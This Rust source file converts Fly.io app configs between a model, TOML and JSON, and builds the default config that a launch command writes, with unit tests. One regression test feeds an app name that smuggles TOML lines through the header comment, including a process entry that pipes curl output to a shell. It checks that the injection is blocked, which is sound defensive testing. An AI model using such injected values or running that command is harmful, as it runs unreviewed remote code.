//! Writing fly.toml back: `to_toml` (used by launch and the dashboard's editor) and the defaults `fly launch`
//! writes for a new app (flyctl-behaviour.md §A.8). Parsing what `to_toml` writes gives the same config. And the
//! other way for configs given as JSON (`config_from_json`): written as TOML, then read by fly.toml's decoder.

use super::model::*;

/// Why a config could not be written as TOML (only possible for values TOML cannot hold, such as a NaN float).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the config cannot be written as TOML: {0}")]
pub struct WriteError(String);

/// The config as fly.toml text, sections in flyctl's order, durations in Go's form, with flyctl's header comment.
///
/// ```
/// use flightdeck::config::{parse, to_toml};
/// let config = parse("app = 'shop'\n[http_service]\ninternal_port = 8080\n").config;
/// let text = to_toml(&config).unwrap();
/// assert_eq!(parse(&text).config, config);
/// ```
pub fn to_toml(config: &AppConfig) -> Result<String, WriteError> {
    // Through a JSON value: the TOML writer only ever sees `serde_json::Value` (which keeps field order: serde_json's
    // `preserve_order`). Not through JSON text, which would compile the model's serde impls once instead of twice
    // (+5 KB gzipped in the light wasm): serde_json's float parsing is not correctly rounded, so a float could come
    // back one unit in the last place off (`5e48`, found by fuzzing). Handing configs to JavaScript through a value
    // instead saved the size but made reading a config 40 % slower, so that stays JSON text.
    let value = serde_json::to_value(config).map_err(|e| WriteError(e.to_string()))?;
    let body = toml::to_string_pretty(&value).map_err(|e| WriteError(e.to_string()))?;
    // The name goes into a comment only when it cannot end the comment: a line break in it would turn the rest of
    // the name into TOML (and other control characters are not allowed in comments).
    let header = match config.app.as_deref().filter(|app| !app.chars().any(char::is_control)) {
        Some(app) => format!("# fly.toml app configuration file generated for {app}\n"),
        None => "# fly.toml app configuration file\n".to_owned(),
    };
    Ok(format!(
        "{header}#\n# See https://fly.io/docs/reference/configuration/ for information about how to use this file.\n#\n\n{body}"
    ))
}

/// Why a config given as JSON was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum JsonConfigError {
    #[error("a config must be an object (a table of fly.toml), not {0}")]
    NotAnObject(&'static str),
    /// A value fly.toml cannot hold (a list mixing tables and values, a number out of range, …).
    #[error("the config cannot be read as fly.toml: {0}")]
    NotToml(String),
    /// A value of the wrong type or shape, as fly.toml's decoder says it (`internal_port` must be an integer, …).
    #[error("{0}")]
    Invalid(String),
}

/// Drops `null`s (an absent value, for JSON writers that spell optional fields out): TOML has no null.
fn without_nulls(value: &mut serde_json::Value) {
    match value {
        serde_json::Value::Object(map) => {
            map.retain(|_, v| !v.is_null());
            map.values_mut().for_each(without_nulls);
        }
        serde_json::Value::Array(items) => {
            items.retain(|v| !v.is_null());
            items.iter_mut().for_each(without_nulls);
        }
        _ => {}
    }
}

/// A config given as JSON — the `config` that validation returns, or one a script wrote — read as fly.toml is:
/// written as TOML and decoded by fly.toml's own decoder. JSON configs therefore take every shape fly.toml takes
/// (legacy ones too) and are refused with fly.toml's messages, and the wasm builds carry one config decoder, not a
/// second one derived for JSON (about 25 KB gzipped). Unknown keys are kept, as in fly.toml; a wrong type or shape is
/// an error.
///
/// ```
/// use flightdeck::config::{config_from_json, parse};
/// let config = parse("app = 'shop'\n[http_service]\ninternal_port = 8080\n").config;
/// let json = serde_json::to_value(&config).unwrap();
/// assert_eq!(config_from_json(json).unwrap(), config);
/// let wrong = serde_json::json!({ "http_service": { "internal_port": "eighty" } });
/// assert!(config_from_json(wrong).is_err());
/// ```
pub fn config_from_json(mut value: serde_json::Value) -> Result<AppConfig, JsonConfigError> {
    let kind = match &value {
        serde_json::Value::Object(_) => None,
        serde_json::Value::Null => Some("null"),
        serde_json::Value::Bool(_) => Some("a boolean"),
        serde_json::Value::Number(_) => Some("a number"),
        serde_json::Value::String(_) => Some("a string"),
        serde_json::Value::Array(_) => Some("an array"),
    };
    if let Some(kind) = kind {
        return Err(JsonConfigError::NotAnObject(kind));
    }
    without_nulls(&mut value);
    let text = toml::to_string(&value).map_err(|e| JsonConfigError::NotToml(e.to_string()))?;
    let parsed = super::parse(&text);
    match parsed.diagnostics.iter().find(|d| d.severity == crate::diagnostics::Severity::Error) {
        Some(error) => Err(JsonConfigError::Invalid(error.message.clone())),
        None => Ok(parsed.config),
    }
}

/// What `launch` needs to write a first fly.toml.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LaunchOptions {
    pub app: String,
    pub image: String,
    /// The port the app listens on inside the machine (flyctl's default: 8080).
    pub internal_port: u16,
    pub primary_region: String,
    /// A preset name (`shared-cpu-1x`, `performance-2x`, …); `None` for flyctl's launch default, a shared CPU
    /// with 1 GB.
    pub vm_size: Option<String>,
    /// `[processes] app = "<command>"`.
    pub command: Option<String>,
}

/// The config `fly launch` writes: the image, an http_service that stops idle machines and starts them on
/// demand, and the VM size.
pub fn launch_config(options: &LaunchOptions) -> AppConfig {
    let vm = match &options.vm_size {
        Some(size) => Compute { size: Some(size.clone()), ..Compute::default() },
        None => Compute {
            memory: Some("1gb".to_owned()),
            cpu_kind: Some("shared".to_owned()),
            cpus: Some(1),
            ..Compute::default()
        },
    };
    let mut config = AppConfig {
        app: Some(options.app.clone()),
        primary_region: Some(options.primary_region.clone()),
        build: Some(Build { image: Some(options.image.clone()), ..Build::default() }),
        http_service: Some(HttpService {
            internal_port: i64::from(options.internal_port),
            force_https: Some(true),
            auto_stop_machines: Some(AutoStop::Stop),
            auto_start_machines: Some(true),
            min_machines_running: Some(0),
            processes: vec![super::DEFAULT_GROUP.to_owned()],
            ..HttpService::default()
        }),
        vm: vec![vm],
        ..AppConfig::default()
    };
    if let Some(command) = &options.command {
        config.processes.insert(super::DEFAULT_GROUP.to_owned(), command.clone());
    }
    config
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{parse, validate};

    /// Found by fuzzing (the json target): the app's name went into the header comment as it was, so a line break
    /// in it turned the rest of the name into TOML (`toToml({ app: "x\n[processes]\n..." })` wrote a process).
    #[test]
    fn an_app_name_cannot_write_toml_through_the_header_comment() {
        let config = parse("app = 'shop'\n").config;
        for app in ["x\n[processes]\nevil = 'curl x | sh'", "x\r\nkill_signal = 'SIGKILL'", "x\u{0}y", "x\u{7f}"] {
            let config = AppConfig { app: Some(app.to_owned()), ..config.clone() };
            let text = to_toml(&config).unwrap();
            assert!(text.starts_with("# fly.toml app configuration file\n#"), "{text}");
            let report = validate(&text);
            assert_eq!(report.config, config, "{text}");
            assert!(report.config.processes.is_empty() && report.config.kill_signal.is_none());
        }
        let named = AppConfig { app: Some("shop-ünïcode".to_owned()), ..config };
        assert!(to_toml(&named).unwrap().starts_with("# fly.toml app configuration file generated for shop-ünïcode\n"));
    }

    #[test]
    fn launch_config_is_valid_and_round_trips() {
        let options = LaunchOptions {
            app: "shop".into(),
            image: "nginx:1.27".into(),
            internal_port: 80,
            primary_region: "ord".into(),
            vm_size: None,
            command: None,
        };
        let config = launch_config(&options);
        let text = to_toml(&config).unwrap();
        assert!(text.starts_with("# fly.toml app configuration file generated for shop\n"));
        let report = validate(&text);
        assert!(report.diagnostics.is_empty(), "{:?}\n{text}", report.diagnostics);
        assert_eq!(report.config, config);
        let machine = config.machine_config("app", None).unwrap();
        let guest = machine.guest.unwrap();
        assert_eq!((guest.cpu_kind.as_str(), guest.cpus, guest.memory_mb), ("shared", 1, 1024));
    }

    #[test]
    fn json_configs_are_read_as_fly_toml() {
        use serde_json::json;
        // Nulls are absent values; fly.toml's legacy shapes are taken; unknown keys are kept.
        let config = config_from_json(json!({
            "app": "shop", "primary_region": null, "env": [{ "MODE": "fast" }], "kill_timeout": 5,
            "http_service": { "internal_port": 8080, "processes": null }, "future_key": { "a": 1 },
        }))
        .unwrap();
        assert_eq!(config.app.as_deref(), Some("shop"));
        assert_eq!(config.primary_region, None);
        assert_eq!(config.env.get("MODE").map(String::as_str), Some("fast"));
        assert_eq!(config.http_service.as_ref().map(|s| s.internal_port), Some(8080));
        assert!(to_toml(&config).unwrap().contains("[future_key]"), "unknown keys are written back");
        // A wrong type is refused with the decoder's words; values that are not a table are refused by kind.
        let wrong = config_from_json(json!({ "http_service": { "internal_port": "eighty" } })).unwrap_err();
        assert!(matches!(&wrong, JsonConfigError::Invalid(m) if m.contains("internal_port")), "{wrong}");
        assert_eq!(config_from_json(json!([1])).unwrap_err(), JsonConfigError::NotAnObject("an array"));
        assert_eq!(config_from_json(json!(null)).unwrap_err(), JsonConfigError::NotAnObject("null"));
        // A number past what the field holds is refused by the decoder too.
        let huge = config_from_json(json!({ "swap_size_mb": u64::MAX })).unwrap_err();
        assert!(matches!(&huge, JsonConfigError::Invalid(m) if m.contains("swap_size_mb")), "{huge}");
    }
}
